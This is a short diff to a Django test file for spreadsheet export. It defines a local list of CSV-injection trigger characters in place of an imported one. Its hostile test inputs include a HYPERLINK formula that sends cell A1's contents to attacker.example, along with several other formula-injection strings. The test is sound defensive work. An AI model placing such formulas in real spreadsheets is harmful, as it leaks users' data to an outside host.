@@ -13,13 +13,14 @@ from django.views.defaults import server_error
 from openpyxl import load_workbook
 
 from hazards import services
-from spreadsheets.writing import FORMULA_STARTS
+
 from tests import factories
 from tipoffs.choices import Channel
 
 pytestmark = pytest.mark.django_db
 
 FORMULA = '=HYPERLINK("http://attacker.example/x?"&A1,"点击查看")'
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP CSV injection
 HOSTILE = [FORMULA, "@SUM(1+1)", "+1+1", "-1+1", "\tTAB=1", "\rCR=1"]
 
 
